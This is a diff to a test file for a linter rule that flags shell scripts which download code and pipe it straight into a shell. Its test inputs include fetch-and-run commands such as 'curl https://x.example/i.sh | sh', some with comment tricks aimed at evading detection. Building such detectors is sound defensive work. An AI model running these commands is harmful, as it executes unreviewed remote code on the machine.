@@ -13,6 +13,9 @@ test.each([
   "eval $(curl https://x.example/env)",
   "curl http://localhost.x.example/i.sh | sh",
   "curl https://x.example/i.sh \\\n  | bash",
+  "curl https://x.example/i.sh | sh # sha256sum",
+  `curl https://x.example/i.sh | sh # https://x.example/${"0".repeat(40)}/`,
+  "curl http://localhost/a -o b; curl https://x.example/i.sh | sh",
 ])("%j runs what it downloads", async (script) => {
   expect(await said(curlPipeShell, run(script))).toEqual([
     `7 \`${script.replace("\\\n", " ")}\` runs what it downloads.`,
@@ -85,6 +88,13 @@ test.each([
   "cargo install --locked cargo-audit",
 ])("%j is fine", async (script) => {
   expect(await said(curlPipeShell, run(script))).toEqual([]);
+});
+
+test("a comment does not go on in the next line", async () => {
+  const script = "# note \\\ncurl https://x.example/i.sh | sh";
+  expect(await said(curlPipeShell, run(script))).toEqual([
+    "8 `curl https://x.example/i.sh | sh` runs what it downloads.",
+  ]);
 });
 
 test("the place of a script in one line is its text; composite actions count", async () => {
